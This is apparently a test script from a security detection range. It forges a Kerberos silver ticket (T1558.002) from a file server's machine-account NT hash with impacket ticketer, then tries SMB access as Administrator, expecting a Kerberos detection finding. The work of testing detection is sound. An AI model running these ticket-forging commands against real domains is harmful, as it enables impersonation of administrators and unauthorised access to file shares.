# SPDX-License-Identifier: Apache-2.0
# what: a service ticket made with fs1's NT hash, where the domain controller issues AES
# technique: T1558.002
# from: ws1
# to: fs1
# account: Administrator
# outcome: attempt
# must: finding krb
. "$RANGE_HERE/item.sh"
cd "$HOME"
for u in alice bob; do
	at ws2 sh -c "echo '$USER_PASSWORD' | kinit $u; kvno cifs/fs1.$DOMAIN_DNS" || exit 1
done
impacket ticketer -nthash "$(nthash 'FS1$')" -domain-sid "$(domain_sid)" -domain $DOMAIN_DNS \
	-spn cifs/fs1.$DOMAIN_DNS Administrator
printf 'use data\nls\nexit\n' >"$HOME/do"
export KRB5CCNAME="$HOME/Administrator.ccache"
says 'drw|LOGON_FAILURE' impacket smbclient -k -no-pass -dc-ip $dc1 -file "$HOME/do" "$REALM/Administrator@fs1.$DOMAIN_DNS"
